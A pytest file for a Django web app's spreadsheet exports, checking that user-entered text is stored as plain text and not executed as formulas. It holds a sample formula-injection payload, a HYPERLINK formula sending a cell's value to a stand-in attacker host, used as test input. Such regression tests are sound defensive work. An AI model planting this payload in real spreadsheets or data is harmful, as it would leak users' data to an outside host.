"""Spreadsheet formula injection (pen-test item 13): every .xlsx export writes people's text as
text. Each test downloads the real file over HTTP and opens it with openpyxl."""

from __future__ import annotations

import io

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from gongkai.interviews.models import Interview, ReceiptForm
from gongkai.units.models import Unit
from tests.interviews.conftest import PDF
from tests.interviews.test_views import _receipt_post

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def cells_with(content: bytes, text: str) -> list:
    """Every cell of every sheet whose value is ``text``."""
    book = load_workbook(io.BytesIO(content))
    return [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == text]


def assert_written_as_text(content: bytes, text: str = EVIL) -> None:
    cells = cells_with(content, text)
    assert cells, "the text is in the export"
    assert all(c.data_type == "s" for c in cells), [c.data_type for c in cells]


def test_attachment_1_writes_a_formula_contact_name_as_text(client_as, make_activity):
    make_activity(contact_name=EVIL)
    response = client_as("service_center").get("/visits/staff/attachment-1.xlsx")
    assert response.status_code == 200
    assert_written_as_text(response.content)


def test_receipts_export_writes_a_formula_contact_name_as_text(demo, client_as):
    interview = demo["县农业农村局"]
    ReceiptForm.objects.filter(interview=interview).delete()
    response = client_as("unit_staff").post(
        reverse("interviews:receipt-edit", args=[interview.pk]),
        _receipt_post(contact_name=EVIL, scan=SimpleUploadedFile("s.pdf", PDF, "application/pdf")),
    )
    assert response.status_code == 302
    response = client_as("service_center").get("/interviews/staff/receipts.xlsx")
    assert response.status_code == 200
    assert_written_as_text(response.content)


def test_schedule_export_writes_a_formula_topic_as_text(demo, client_as):
    Interview.objects.filter(pk=demo["县农业农村局"].pk).update(topic=EVIL, venue="=1+1")
    response = client_as("service_center").get("/interviews/staff/schedule.xlsx")
    assert response.status_code == 200
    assert_written_as_text(response.content)
    assert_written_as_text(response.content, "=1+1")


def test_units_export_and_assessment_report_write_a_formula_unit_name_as_text(programme, client_as):
    Unit.objects.filter(name="县统计局").update(name=EVIL)
    response = client_as("service_center").get("/staff/units/export.xlsx")
    assert response.status_code == 200
    assert_written_as_text(response.content)
    response = client_as("assessor").get(f"/assessment/{programme.year}/report.xlsx")
    assert response.status_code == 200
    assert_written_as_text(response.content)


def test_export_drops_control_characters_openpyxl_refuses(client_as, make_activity):
    """A vertical tab in a contact name used to make the download fail (500)."""
    make_activity(contact_name="赵\x0b联络")
    response = client_as("service_center").get("/visits/staff/attachment-1.xlsx")
    assert response.status_code == 200
    assert cells_with(response.content, "赵联络")


def test_csv_safe_prefixes_formula_starts_only():
    from gongkai.lib.xlsx import csv_safe

    assert csv_safe("=1+1") == "'=1+1"
    assert csv_safe("@SUM(A1)") == "'@SUM(A1)"
    assert csv_safe("-3") == "'-3"
    assert csv_safe("张三") == "张三"
    assert csv_safe(5) == 5
